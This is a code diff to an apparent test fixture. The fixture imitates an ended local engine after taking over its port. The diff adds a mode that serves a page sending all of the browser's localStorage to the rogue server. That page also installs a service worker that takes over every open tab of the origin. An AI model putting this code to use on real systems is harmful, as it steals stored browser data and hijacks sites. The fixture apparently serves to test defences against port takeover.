@@ -1,5 +1,6 @@
 // A process of another account that takes the port of an ended engine and imitates the engine.
-// Arguments: the port, and `play` (answer everything) or `relay` (pass every frame on to an engine,
+// Arguments: the port, and `play` (answer everything), `page` (serve a page that takes what the
+// browser stores, and leaves a service worker) or `relay` (pass every frame on to an engine,
 // whose port comes on stdin). Prints each request and frame that it receives as a line of JSON.
 import { createServer } from 'node:http'
 import { WebSocket, WebSocketServer } from 'ws'
@@ -20,11 +21,32 @@ const server = createServer((request, response) => {
       headers: request.headers,
       body: Buffer.concat(chunks).toString('latin1'),
     })
+    if (part === 'page') return servePage(request, response)
     const isScript = /\.m?js/.test(request.url ?? '')
     response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'application/json' })
     response.end(isScript ? 'document.title = "TAKEN OVER"' : '{}')
   })
 })
+
+const PAGE = `<!doctype html><title>ROGUE</title><script>
+navigator.serviceWorker.register('/worker.js')
+fetch('/taken', { method: 'POST', body: JSON.stringify({ ...localStorage }) })
+</script>`
+/** Takes over every open tab of this origin at once, and answers all that they load. */
+const WORKER = `
+addEventListener('install', () => skipWaiting())
+addEventListener('activate', (event) => event.waitUntil(clients.claim()))
+addEventListener('fetch', (event) => {
+  const isScript = event.request.destination === 'script'
+  const headers = { 'content-type': isScript ? 'text/javascript' : 'text/html' }
+  event.respondWith(new Response(isScript ? 'document.title = "TAKEN OVER"' : 'ROGUE', { headers }))
+})`
+
+function servePage({ url }, response) {
+  const isWorker = url === '/worker.js'
+  response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' })
+  response.end(isWorker ? WORKER : PAGE)
+}
 
 const sockets = new WebSocketServer({ noServer: true, handleProtocols: (protocols) => [...protocols][0] })
 server.on('upgrade', (request, stream, head) => {
